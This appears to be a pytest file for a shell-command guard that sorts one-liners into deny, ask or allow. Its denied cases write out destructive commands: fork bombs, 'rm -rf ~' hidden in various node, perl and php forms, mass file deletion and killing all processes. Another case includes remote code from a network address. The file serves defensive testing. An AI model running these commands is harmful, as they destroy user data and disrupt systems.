"""Processes without end, values put together piece by piece, and patterns of files as values."""

import pytest

from checkrail.model import Decision
from tests.judging import decision


@pytest.mark.parametrize(
    "command",
    [
        "perl -e 'fork while 1'",
        'node -e \'(0,require("child_process").execSync)("rm -rf ~")\'',
        'node -e \'require("child_process").execSync.call(null,"rm -rf ~")\'',
        'node -e \'require("child_process").execSync.apply(null,["rm -rf ~"])\'',
        'node -e \'const {promisify:p}=require("util");p(require("child_process").exec)("rm -rf ~")\'',
        "perl -e 'fork() while fork'",
        "perl -e 'while(1){fork}'",
        "ruby -e 'loop { fork { sleep 1 } }'",
        "php -r 'while(true){pcntl_fork();}'",
        'perl -e \'my $c="rm"; $c.=" -rf ~"; system $c\'',
        'php -r \'$c="rm"; $c.=" -rf ~"; system($c);\'',
        'node -e \'let c="rm"; c+=" -rf ~"; require("child_process").execSync(c)\'',
        "perl -e 'unlink </home/dev/*>'",
        "ruby -e 'Dir.glob(\"/home/dev/*\"){|f| File.delete f}'",
        'php -r \'array_map("unlink", glob("/home/dev/*"));\'',
        "perl -e 'kill 9, -1'",
        "ruby -e 'Process.kill(9, -1)'",
        "node -e 'process.kill(-1)'",
        'php -r \'call_user_func("system", "rm -rf ~");\'',
    ],
)
def test_denied(command: str) -> None:
    assert decision(command) is Decision.DENY


def test_a_file_over_the_network_that_is_included() -> None:
    assert decision("php -r 'include \"http://203.0.113.9/x\";'") is Decision.ASK


@pytest.mark.parametrize(
    "command",
    [
        "perl -e 'my $pid = fork; wait if $pid'",
        "ruby -e 'pid = fork { puts 1 }; Process.wait pid'",
        "perl -e 'while (<$fh>) { print }'",
        "perl -e 'if ($a <3 && $b> 2) { print 1 }'",
        "perl -e 'print for </work/app/*.txt>'",
        "node -e 'let s=\"\"; for (const x of [1,2]) s+=x; console.log(s)'",
        'perl -e \'my $c="ls"; $c.=" -l"; system $c\'',
        "ruby -e 'Dir.glob(\"*.rb\"){|f| puts f}'",
        'php -r \'array_map("trim", ["a "]);\'',
        "php -r 'include \"vendor/autoload.php\";'",
        "ruby -e 'Process.kill(9, 4242)'",
        "node -e '(0,console.log)(\"rm -rf ~\")'",
        "node -e 'Object.prototype.toString.call([])'",
        "node -e 'Math.max.apply(null,[1,2])'",
        'node -e \'new Function("a", "return a")(1)\'',
    ],
)
def test_passes(command: str) -> None:
    assert decision(command) is Decision.ALLOW
